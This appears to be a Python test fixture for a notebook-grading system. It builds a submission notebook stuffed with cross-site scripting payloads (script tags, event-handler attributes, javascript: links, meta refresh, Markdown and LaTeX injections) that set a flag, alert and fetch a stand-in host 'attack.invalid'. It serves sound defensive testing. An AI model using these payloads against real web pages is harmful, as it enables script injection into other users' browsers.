"""A submission that tries to run script on the pages of whoever looks at it."""

import nbformat
from nbformat.v4 import new_code_cell, new_markdown_cell, new_output, new_raw_cell

from grading.assignment.cells import grade_id, is_heavy

#: Where script of the submission would leave a trace: a flag, a dialog, the console, the network.
HOST = "attack.invalid"
SCRIPT = f"window.top.attacked = true; console.log('attacked'); fetch('http://{HOST}/'); alert('attacked')"
LINK = "press here"
HTML = f"""
<script>{SCRIPT}</script> <img src=x onerror="{SCRIPT}"> <svg onload="{SCRIPT}"></svg>
<iframe srcdoc="<script>{SCRIPT}</script>"></iframe> <details open ontoggle="{SCRIPT}">x</details>
<a href="javascript:{SCRIPT}">{LINK}</a> <form><button formaction="javascript:{SCRIPT}">{LINK}</button></form>
<img src="http://{HOST}/pixel.png"> <style>@import url(http://{HOST}/style.css);</style>
"""
MARKDOWN = f"""{HTML}
<meta http-equiv="refresh" content="0; url=http://{HOST}/">
[{LINK}](javascript:{SCRIPT.replace(" ", "%20")}) <javascript:{SCRIPT.split(";")[0].replace(" ", "%20")}>
![x" onerror="{SCRIPT}](x" onerror="{SCRIPT}) ![pixel](http://{HOST}/pixel.png)
$\\href{{javascript:{SCRIPT}}}{{x}}$ </textarea></pre></title><script>{SCRIPT}</script>
"""
ANSWER = f"""def relu(Z):
    '''{HTML}'''
    # </pre></div><script>{SCRIPT}</script>
    raise ValueError({HTML!r})
"""


def hostile(filled):
    """The bytes of a filled notebook with script in every place that some page shows."""
    notebook = nbformat.reads(filled, as_version=4)
    outputs = [
        new_output("display_data", data={kind: HTML, "text/plain": HTML})
        for kind in ("text/html", "image/svg+xml", "text/markdown", "text/latex")
    ]
    outputs += [
        new_output(
            "display_data",
            data={"application/javascript": SCRIPT, "image/png": f'x"><script>{SCRIPT}'},
        ),
        new_output("stream", name="stdout", text=HTML),
        new_output("error", ename=HTML, evalue=HTML, traceback=[HTML]),
    ]
    for cell in notebook.cells:
        if grade_id(cell) == "relu":
            cell.source = ANSWER
        if is_heavy(cell):
            cell.outputs = outputs
    shown = f"HTML({HTML!r}), Javascript({SCRIPT!r})"
    showing = f"from IPython.display import HTML, Javascript, display\ndisplay({shown})"
    notebook.cells[2:2] = [
        new_markdown_cell(MARKDOWN, attachments={"a.png": {"image/png": f'x" onerror="{SCRIPT}'}}),
        new_raw_cell(MARKDOWN, metadata={"raw_mimetype": "text/html"}),
        new_code_cell(showing, outputs=outputs),
        new_code_cell(f"print({HTML!r})\nraise ValueError({HTML!r})", outputs=outputs),
    ]
    notebook.metadata["title"] = f"</title><script>{SCRIPT}</script>"
    return nbformat.writes(notebook).encode()
